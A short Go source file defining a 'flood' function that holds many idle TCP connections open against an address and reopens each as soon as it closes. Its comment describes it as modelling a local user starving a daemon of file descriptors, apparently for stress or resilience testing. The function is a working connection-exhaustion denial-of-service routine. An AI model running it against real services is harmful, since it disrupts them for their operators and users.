package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"sync/atomic"
	"time"
)

// flood is a local user starving a daemon of descriptors: n idle
// connections to addr, each opened again as soon as the server closes it,
// until the process is stopped.
func flood(addr, count string) {
	n, err := strconv.Atoi(count)
	if err != nil {
		fmt.Fprintln(os.Stderr, "flood: count:", err)
		os.Exit(2)
	}
	var open, opened atomic.Int64
	for range n {
		go func() {
			for {
				c, err := net.DialTimeout("tcp", addr, 2*time.Second)
				if err != nil {
					time.Sleep(10 * time.Millisecond)
					continue
				}
				open.Add(1)
				opened.Add(1)
				io.Copy(io.Discard, c) //nolint:errcheck // until the server closes it
				c.Close()
				open.Add(-1)
			}
		}()
	}
	for {
		time.Sleep(time.Second)
		fmt.Printf("open %d opened %d\n", open.Load(), opened.Load())
	}
}
